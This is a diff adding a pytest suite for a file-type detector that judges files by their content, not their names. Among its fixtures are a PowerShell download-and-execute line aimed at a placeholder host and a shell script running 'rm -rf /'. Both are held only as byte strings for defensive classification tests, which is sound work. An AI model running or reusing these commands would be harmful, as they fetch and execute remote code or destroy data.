@@ -1,0 +1,59 @@
+"""R6: what a file is, by its bytes and never by its name."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from detectors.true_type import Family, true_type
+from tests.detectors.built import DOCM, PROGRAM, docx, pdf, tarred, zipped
+from tests.detectors.drawn import landscape, saved
+
+POWERSHELL = b"Set-ExecutionPolicy Bypass\n$client = New-Object System.Net.WebClient\nInvoke-Expression $client.DownloadString('http://x')\n"
+
+
+@pytest.mark.parametrize(
+    ("name", "blob", "family"),
+    [
+        ("holiday.jpg", PROGRAM, Family.EXECUTABLE),
+        ("holiday.jpg", b"\x7fELF\x02\x01\x01" + b"\0" * 60, Family.EXECUTABLE),
+        ("notes.txt", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60, Family.EXECUTABLE),
+        ("game.zip", zipped({"META-INF/MANIFEST.MF": "Main-Class: X", "X.class": b"\xca\xfe"}), Family.EXECUTABLE),
+        ("game.exe", b"just words", Family.EXECUTABLE),
+        ("run.bat", b"echo hi", Family.SCRIPT),
+        ("poem.txt", b"#!/bin/sh\nrm -rf /\n", Family.SCRIPT),
+        ("poem.txt", POWERSHELL, Family.SCRIPT),
+        ("page.html", b"<html><HTA:APPLICATION id=x></html>", Family.SCRIPT),
+        ("turtle.py", b"#!/usr/bin/env python3\nimport turtle\nturtle.forward(100)\n", Family.WORDS),
+        ("game.js", b"let score = 0;\nfunction jump() { score += 1; }\n", Family.WORDS),
+        ("poem.txt", "Das Mädchen läuft".encode("cp1252"), Family.WORDS),
+        ("poem.txt", "hello there".encode("utf-16"), Family.WORDS),
+        ("data.csv", b"day,rain\nmonday,3\n", Family.WORDS),
+        ("page.txt", b"<!doctype html><html><body>hi</body></html>", Family.MARKUP),
+        ("logo.png", b'<svg xmlns="http://www.w3.org/2000/svg"><circle/></svg>', Family.MARKUP),
+        ("photo.exe.txt", saved(landscape()), Family.PICTURE),
+        ("x", saved(landscape(), "WEBP"), Family.PICTURE),
+        ("x", saved(landscape(), "AVIF"), Family.PICTURE),
+        ("x", saved(landscape(), "BMP"), Family.PICTURE),
+        ("x", pdf(), Family.PDF),
+        ("x", docx(), Family.OFFICE),
+        ("x.docx", docx(kind=DOCM), Family.OFFICE),
+        ("x", zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}, 0), Family.OFFICE),
+        ("game.sb3", zipped({"project.json": "{}"}), Family.OFFICE),
+        ("x", b"{\\rtf1 hello}", Family.RTF),
+        ("x", tarred({"a.txt": b"hi"}), Family.ARCHIVE),
+        ("x", zipped({"a.txt": "hi"}), Family.ARCHIVE),
+        ("x", b"7z\xbc\xaf'\x1c" + b"\0" * 30, Family.SEALED),
+        ("song.txt", b"ID3\x03\0\0\0" + b"\0" * 40, Family.MEDIA),
+        ("clip.jpg", b"\0\0\0\x18ftypisom" + b"\0" * 40, Family.MEDIA),
+        ("x.txt", b"", Family.EMPTY),
+    ],
+)
+def test_rule_6_a_file_is_what_its_bytes_say(name, blob, family):
+    assert true_type(blob, name).family is family
+
+
+@given(st.binary(max_size=400), st.text(max_size=12))
+def test_every_byte_string_has_a_type(blob, name):
+    assert true_type(blob, name).family in Family
